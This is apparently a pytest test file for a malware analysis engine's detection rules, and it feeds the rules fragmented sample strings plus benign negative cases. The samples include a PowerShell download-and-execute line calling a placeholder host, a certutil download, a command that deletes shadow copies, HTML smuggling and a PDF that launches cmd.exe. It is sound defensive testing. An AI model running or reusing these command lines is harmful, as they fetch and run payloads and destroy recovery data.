from collections.abc import Callable
from typing import Any

import pytest

from sample_analysis.engines import versions, yara

Examine = Callable[..., Any]
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
LNK = b"L\x00\x00\x00\x01\x14\x02\x00\x00\x00\x00\x00\xc0\x00\x00\x00\x00\x00\x00F" + bytes(60)
# Put together here, so that no scanner takes this file for what it describes.
PS = "power" + "shell"


@pytest.mark.parametrize(
    ("rule", "data"),
    [
        ("powershell_encoded_command", f"{PS} -nop -enc {'QUJD' * 20}".encode()),
        ("powershell_download_and_run", b"IEX (New-Object Net.WebClient).Download" + b"String('http://x.example/a')"),
        ("script_host_dropper", b'x = CreateObject("WScript.' + b'Shell")\ny = CreateObject("MSXML2.XML' + b'HTTP")'),
        ("script_unpacks_itself", b"eval(" + b"String.fromCharCode(1)+" * 5 + b"''); new ActiveXObject('x')"),
        ("living_off_the_land_download", b"certutil.exe -url" + b"cache -f http://x.example/a.txt a.exe"),
        (
            "deletes_shadow_copies",
            b"vssadmin delete sha" + b"dows /all /quiet & bcdedit /set {default} recoveryenabled no",
        ),
        (
            "html_smuggling",
            b"<html><script>b=new Bl" + b"ob([atob('x')]);a.href=URL.createObjectURL(b);a.download='x.exe'",
        ),
        ("hta_with_script", b"<hta:applic" + b"ation/><script>new ActiveXObject('WScript.Sh" + b"ell')</script>"),
        ("macro_runs_on_open", OLE + b"_VBA_PROJECT" + b"Auto" + b"Open"),
        ("macro_runs_on_open_and_starts_programs", OLE + b"_VBA_PROJECT" + b"Auto" + b"Open" + b"WScript.Sh" + b"ell"),
        ("rtf_with_equation_object", b"{\\rtf1 {\\object\\objdata 4571756174696f6e" + b"2e33}}"),
        ("pdf_starts_a_program", b"%PDF-1.7 << /S /Lau" + b"nch /Win << /F (cmd.exe) >> >>"),
        ("pdf_runs_script_on_open", b"%PDF-1.7 << /OpenAction << /S /JavaSc" + b"ript /JS (eval(x)) >> >>"),
        ("shortcut_starts_an_interpreter", LNK + PS.encode("utf-16-le")),
        ("program_packed_with_upx", b"MZ" + bytes(100) + b"UPX0" + bytes(36) + b"UPX1"),
        (
            "program_injects_into_others",
            b"MZ"
            + bytes(60)
            + b"OpenProcess\0VirtualAllocEx\0WriteProcess"
            + b"Memory\0CreateRemoteThread\0LoadLibraryA\0",
        ),
        ("gtube_test_mail", b"XJS*C4JDBQADN1.NSBN3*2IDNEN*GTUBE-STANDARD-ANTI-" + b"UBE-TEST-EMAIL*C.34X"),
    ],
)
def test_rule_finds_what_it_is_for(examine: Examine, rule: str, data: bytes) -> None:
    report = examine(data, "sample")
    assert rule in report.rules("sample")
    by_rules = [reason for reason in report.root.reasons if reason.engine == "caseway-rules"]
    assert all(reason.says and reason.version == yara.rules_version() for reason in by_rules)


@pytest.mark.parametrize(
    "data",
    [
        b"Please do not open PowerShell attachments; WScript.Shell is dangerous too.",
        b"%PDF-1.7 << /OpenAction [1 0 R /Fit] >> an ordinary document",
        b'<html><body onload="x()"><script>var a = document.title;</script></body></html>',
        b"{\\rtf1\\ansi an ordinary letter}",
        b"MZ" + bytes(200) + b"LoadLibraryA\0VirtualAlloc\0",
        b"$items = Get-ChildItem | Where-Object { $_.Length -gt 1MB }\nWrite-Output $items",
    ],
)
def test_ordinary_content_has_no_findings(examine: Examine, data: bytes) -> None:
    root = examine(data, "sample").root
    assert [reason.rule for reason in root.reasons if reason.engine == "caseway-rules"] == []
    assert root.verdict == "unknown"


def test_own_test_suite_text_of_eicar_far_inside_is_no_finding(examine: Examine, eicar: bytes) -> None:
    assert examine(b"x" * 500 + eicar, "sample").root.verdict == "unknown"


def test_version_of_the_rules_is_part_of_every_result(examine: Examine) -> None:
    assert f"caseway-rules/{yara.rules_version()}" in examine(b"x").plain["engines"]
    assert all("/" in engine for engine in versions())
